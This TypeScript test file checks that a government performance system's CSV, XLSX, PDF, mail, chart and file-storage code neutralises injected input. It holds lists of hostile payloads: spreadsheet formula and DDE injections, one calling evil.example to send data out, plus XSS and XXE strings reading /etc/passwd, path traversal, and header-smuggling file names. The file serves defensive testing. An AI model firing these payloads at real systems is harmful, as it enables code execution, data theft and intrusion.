/** Texts of somebody who wants a spreadsheet, a PDF reader, a mail program or a browser to do something, in whatever we hand out. */

import { S3Client } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { renderChart } from '../../../functions/chart/render-chart.ts';
import { renderPdf } from '../../../functions/documents/render-pdf.ts';
import { checkEvidence } from '../../../functions/domain/activity/evidence.ts';
import type { OfficialDocument } from '../../../functions/domain/document/document.ts';
import { mailText } from '../../../functions/domain/notice/mail-text.ts';
import { NOTICE_KINDS } from '../../../functions/domain/notice/notice.ts';
import { renderCsv } from '../../../functions/export/render-csv.ts';
import { renderXlsx } from '../../../functions/export/render-xlsx.ts';
import type { FileKey } from '../../../functions/store/contract/files.ts';
import { createFiles } from '../../../functions/store/s3-files.ts';
import { evaluationDocument } from '../../domain/document/document-builders.ts';
import { type Finding, finding, type TrustOptions } from '../finding.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x!A0',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title><foreignObject><body onload="alert(1)">',
  '&#60;script&#62;',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  ']]><x/>',
  '{{7*7}}',
  "$'$`$&",
];
const BREAKS = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ';',
  ',',
  ';  ',
  '\u00a0',
  '\u3000',
  'Budi;',
  'Budi\n',
  'Budi\t',
  '"',
  '""',
  "'",
];

/** Somebody's text: a payload behind something that might be the end of a cell, of a line or of a quotation. */
const hostile = fc
  .tuple(fc.constantFrom(...BREAKS), fc.constantFrom(...FORMULAS, ...MARKUP), fc.constantFrom(...BREAKS))
  .map((parts) => parts.join(''));

export async function check(options: TrustOptions): Promise<readonly Finding[]> {
  const rendered = await injections(options.seed, 3_000);
  return [...rendered, ...(await (await import('./hostile-region.ts')).hostileRegion())];
}

export async function injections(seed: number, count: number): Promise<readonly Finding[]> {
  const texts = fc.sample(hostile, { numRuns: count, seed });
  return [
    await spreadsheets(texts),
    await documents(texts.slice(0, Math.ceil(count / 30))),
    mails(texts),
    charts(texts.slice(0, Math.ceil(count / 10))),
    await files(texts),
  ];
}

const whole = async (content: AsyncIterable<Uint8Array>): Promise<Buffer> =>
  Buffer.concat(await Array.fromAsync(content));

const SIGN = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

/** Reads the file as it is meant, and cut where another separator would cut it: no cell may begin with a sign of a formula. */
async function spreadsheets(texts: readonly string[]): Promise<Finding> {
  const columns = [
    { title: { id: 'Nama', en: 'Name' }, kind: 'TEXT' as const },
    { title: { id: 'Nilai', en: 'Score' }, kind: 'NUMBER' as const },
  ];
  const wrong: string[] = [];
  for (const text of texts) {
    // A text in a column of numbers is one too.
    const csv = (await whole(renderCsv({ columns, pages: [[[text, text]]] }, 'id'))).toString('utf8');
    const [, cells = []]: string[][] = parse(csv, { bom: true, relax_column_count: true });
    const body = csv.slice(csv.indexOf('\r\n') + 2);
    const formula =
      cells.find((cell) => SIGN.test(cell)) ??
      body.split(/[;\t\r\n]/).find((cell) => SIGN.test(cell.replace('"', '')));
    if (formula !== undefined) wrong.push(`CSV: ${JSON.stringify(formula)} of ${JSON.stringify(text)}`);
    if (!cells.every((cell) => cell.replaceAll("'", '') === text.replaceAll("'", '')))
      wrong.push(`CSV: ${JSON.stringify(text)} came back as ${JSON.stringify(cells)}`);
  }
  const rows = texts.map((text) => [text, text]);
  const parts = unzipSync(await whole(renderXlsx({ columns, pages: [rows] }, 'Nama', 'id')));
  for (const [name, bytes] of Object.entries(parts)) {
    const odd =
      /<f[ >]|<ddeLink|<hyperlink|<oleLink|externalLink|vbaProject|<script|<img|<!ENTITY|<foreignObject/i.exec(
        `${name}${strFromU8(bytes)}`,
      )?.[0];
    if (odd !== undefined) wrong.push(`XLSX: ${odd} in ${name}`);
  }
  return finding(
    'formulas in CSV and XLSX',
    { count: texts.length, of: 'texts' },
    'formulas, lost texts',
    wrong,
  );
}

/** PDFs of documents that hold the texts: no action, no link, no script, nothing that is loaded. */
async function documents(texts: readonly string[]): Promise<Finding> {
  const wrong: string[] = [];
  for (const text of texts) {
    const bytes = await renderPdf(documentOf(text));
    const odd =
      /\/(?:URI|JavaScript|JS|Launch|OpenAction|AA|SubmitForm|EmbeddedFile|RichMedia|GoToR|XFA)\b/.exec(
        Buffer.from(bytes).toString('latin1'),
      )?.[0];
    if (odd !== undefined) wrong.push(`${odd} of ${JSON.stringify(text)}`);
  }
  return finding(
    'markup and actions in PDF',
    { count: texts.length, of: 'documents' },
    'actions, links',
    wrong,
  );
}

/** Fields of a document that somebody writes; the others are codes and dates. */
const WRITTEN =
  /^(?:name|grade|position|unit|title|serves|indicator|target|text|from|general|realisation|institution|reasons|explanations|decision|recommendation|reward)$/;

/** A document in which everything that somebody wrote is this text. */
function written<T>(value: T, text: string, key = ''): T {
  const change = (inner: unknown, name: string): unknown => {
    if (typeof inner === 'string') return WRITTEN.test(name) ? text : inner;
    if (Array.isArray(inner)) return inner.map((each) => change(each, name));
    if (typeof inner !== 'object' || inner === null) return inner;
    return Object.fromEntries(Object.entries(inner).map(([field, of]) => [field, change(of, field)]));
  };
  return change(value, key) as T;
}

const documentOf = (text: string): OfficialDocument =>
  written(evaluationDocument({ general: text } as object), text.replaceAll(/[\t\r]/g, ' '));

/** An attribute of an element that makes a browser or a mail program load or run something. */
const ACTIVE = /<[^>]*\s(?:on\w+|src|srcset|style|background|action|formaction|data)=/i;
const OURS = /^<\/?(?:!doctype|html|meta|title|p|ul|li|a|hr|small)$/;

/** Mails about notices whose references hold the texts: one subject line, no element but ours, nothing that is loaded. */
function mails(texts: readonly string[]): Finding {
  const wrong: string[] = [];
  for (const [at, text] of texts.entries()) {
    const kind = NOTICE_KINDS[at % NOTICE_KINDS.length] ?? NOTICE_KINDS[0];
    const refs = {
      periodId: text,
      subjectId: text,
      month: text,
      days: 7,
      unitId: text,
      planId: text,
    };
    const { subject, html } = mailText([{ kind, refs }], 'id', 'https://kinerja.daerah.go.id');
    if (/[\r\n]/.test(subject)) wrong.push(`a subject of two lines: ${JSON.stringify(subject)}`);
    if (ACTIVE.test(html)) wrong.push(`${ACTIVE.exec(html)?.[0]} of ${JSON.stringify(text)}`);
    const element = html.match(/<\/?!?\w*/g)?.find((each) => !OURS.test(each));
    if (element !== undefined) wrong.push(`${element} of ${JSON.stringify(text)}`);
    if (html.match(/<a /g)?.length !== 1) wrong.push(`another link of ${JSON.stringify(text)}`);
  }
  return finding(
    'header lines and markup in mails',
    { count: texts.length, of: 'mails' },
    'lines, elements',
    wrong,
  );
}

/** Charts whose title, names and labels are the texts: one image, no element of theirs, nothing that is loaded. */
function charts(texts: readonly string[]): Finding {
  const wrong: string[] = [];
  for (const text of texts) {
    const svg = renderChart({
      form: 'ROWS',
      title: text,
      unit: text,
      categories: [text, 'B'],
      values: [1, null],
      labels: [text, text],
      range: null,
    });
    const odd =
      /<(?:script|img|foreignObject|iframe|body|a|image|use|!|x)\b|<[^>]*\son\w+=|<[^>]*href|<!ENTITY/i.exec(
        svg,
      )?.[0];
    if (odd !== undefined) wrong.push(`${odd} of ${JSON.stringify(text)}`);
    if (svg.match(/<svg/g)?.length !== 1 || !svg.endsWith('</svg>'))
      wrong.push(`more than one image of ${JSON.stringify(text)}`);
  }
  return finding('markup in charts', { count: texts.length, of: 'images' }, 'elements', wrong);
}

const PATHS = [
  'evidence/../exports/x',
  'evidence/..',
  'evidence/./x',
  '/evidence/x',
  'evidence//x',
  'evidence/',
  'evidence/x/',
  'incoming/evidence/x',
  'documents/x',
  'evidence/x\u0000.pdf',
  'evidence/%2e%2e/x',
  'evidence\\..\\x',
  'evidence/x?versionId=1',
  'evidence/x#y',
  'evidence/x y',
  'evidence/é',
  'evidence/\u202efdp.x',
  'Evidence/x',
  '',
  '../../etc/passwd',
  'C:\\x',
  'file:///etc/passwd',
];
const FILE_NAMES = [
  'a"; filename="b.exe',
  'a\r\nSet-Cookie: x=1',
  '../a.pdf',
  'a/b.pdf',
  'é.pdf',
  '',
  'a'.repeat(101),
  'a;b',
  "a'b",
  'a b',
];

/** Keys and names of files: what is no key of ours is refused before storage hears of it, and a link has no name of anybody's making. */
async function files(texts: readonly string[]): Promise<Finding> {
  const client = new S3Client({
    region: 'ap-southeast-3',
    credentials: { accessKeyId: 'x', secretAccessKey: 'x' },
  });
  const store = createFiles({ client, bucket: 'trust' });
  const terms = {
    contentType: 'application/pdf',
    sha256: '0'.repeat(64),
    size: { exactly: 1 },
    expiresInSeconds: 60,
  } as const;
  const wrong: string[] = [];
  const taken = (call: Promise<unknown>): Promise<boolean> =>
    call.then(
      () => true,
      (error: unknown) => !(error instanceof TypeError),
    );
  const keys = [...PATHS, ...texts.map((text) => `evidence/${text}`)];
  for (const key of keys) {
    if (/^evidence\/[\w.-]+$/.test(key) && !key.includes('..')) continue;
    const upload = await taken(store.presignUpload(key as FileKey, terms));
    const download = await taken(
      store.presignDownload(key as FileKey, { fileName: 'a.pdf', expiresInSeconds: 60 }),
    );
    if (upload || download) wrong.push(`a link for ${JSON.stringify(key)}`);
  }
  for (const fileName of [...FILE_NAMES, ...texts])
    if (await taken(store.presignDownload('evidence/x', { fileName, expiresInSeconds: 60 })))
      wrong.push(`a download called ${JSON.stringify(fileName)}`);
  // The name that an uploader gives is told to readers and is nothing else, so that it need only be readable.
  for (const fileName of ['a\u0000b', 'a\r\nb', '\u202efdp.exe', '', 'a'.repeat(201), 'a\u200bb'])
    if (checkEvidence({ fileName, size: 1, sha256: '0'.repeat(64) }).length === 0)
      wrong.push(`a file called ${JSON.stringify(fileName)}`);
  const tried = keys.length + FILE_NAMES.length + texts.length + 6;
  return finding('paths and names of files', { count: tried, of: 'keys and names' }, 'taken', wrong);
}
